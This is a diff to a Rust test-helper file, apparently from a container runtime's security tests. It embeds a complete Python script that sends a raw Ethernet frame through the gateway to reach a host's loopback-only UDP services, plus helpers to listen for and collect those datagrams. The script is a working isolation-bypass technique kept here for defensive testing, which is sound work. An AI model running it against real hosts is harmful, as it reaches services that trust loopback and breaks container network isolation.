@@ -179,3 +179,87 @@ pub fn http_get_eventually(addr: SocketAddr, within: Duration) -> Result<String,
         }
     }
 }
+
+/// A python3 program that does what a hostile container with CAP_NET_RAW
+/// can: it writes one raw Ethernet frame to its default gateway's MAC
+/// carrying a UDP datagram for `DST:PORT` (arguments `DST PORT PAYLOAD`),
+/// bypassing the routing of its own namespace, which would never send a
+/// 127/8 destination out of eth0. It finds the gateway in
+/// /proc/net/route and its MAC by ARP (one ordinary datagram to it);
+/// `/proc/net` is the caller's network namespace, so run it inside the
+/// container's (nsenter -n / ip netns exec): the program itself may be the
+/// host's python3.
+pub const RAW_UDP_TO_GATEWAY: &str = r#"
+import socket, struct, sys, time
+dst, port, payload = sys.argv[1], int(sys.argv[2]), sys.argv[3].encode()
+gw = dev = None
+for l in open('/proc/net/route').read().splitlines()[1:]:
+    f = l.split()
+    if f[1] == '00000000':
+        dev, gw = f[0], socket.inet_ntoa(struct.pack('<I', int(f[2], 16)))
+if gw is None:
+    sys.exit('no default route')
+u = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
+u.connect((gw, 9))
+src = u.getsockname()[0]
+mac = None
+for _ in range(50):
+    try:
+        u.send(b'arp')
+    except OSError:
+        pass
+    for l in open('/proc/net/arp').read().splitlines()[1:]:
+        f = l.split()
+        if f[0] == gw and f[3] != '00:00:00:00:00:00':
+            mac = f[3]
+    if mac:
+        break
+    time.sleep(0.1)
+if not mac:
+    sys.exit('no ARP answer from the gateway ' + gw)
+def csum(b):
+    s = sum(struct.unpack('!%dH' % (len(b) // 2), b))
+    s = (s >> 16) + (s & 0xffff)
+    s += s >> 16
+    return ~s & 0xffff
+udp = struct.pack('!HHHH', 40000, port, 8 + len(payload), 0) + payload
+ip = struct.pack('!BBHHHBBH4s4s', 0x45, 0, 20 + len(udp), 1, 0, 64, 17, 0,
+                 socket.inet_aton(src), socket.inet_aton(dst))
+ip = ip[:10] + struct.pack('!H', csum(ip)) + ip[12:]
+r = socket.socket(socket.AF_PACKET, socket.SOCK_RAW)
+r.bind((dev, 0))
+frame = bytes.fromhex(mac.replace(':', '')) + r.getsockname()[4] + b'\x08\x00' + ip + udp
+for _ in range(3):
+    r.send(frame)
+    time.sleep(0.05)
+print('sent', src, '->', dst, port, 'to', mac, 'on', dev)
+"#;
+
+/// A UDP socket bound to 127.0.0.1 only (a host service that trusts
+/// loopback) in the calling thread's network namespace, and its port.
+pub fn loopback_udp_listener() -> (std::net::UdpSocket, u16) {
+    let sock = std::net::UdpSocket::bind("127.0.0.1:0").expect("bind 127.0.0.1:0");
+    let port = sock.local_addr().unwrap().port();
+    (sock, port)
+}
+
+/// The datagrams `sock` receives within `within`, with their senders.
+pub fn datagrams_within(
+    sock: &std::net::UdpSocket,
+    within: Duration,
+) -> Vec<(Vec<u8>, SocketAddr)> {
+    let deadline = Instant::now() + within;
+    let mut got = Vec::new();
+    loop {
+        let left = deadline.saturating_duration_since(Instant::now());
+        if left.is_zero() {
+            return got;
+        }
+        sock.set_read_timeout(Some(left)).unwrap();
+        let mut buf = [0u8; 2048];
+        match sock.recv_from(&mut buf) {
+            Ok((n, from)) => got.push((buf[..n].to_vec(), from)),
+            Err(_) => return got,
+        }
+    }
+}
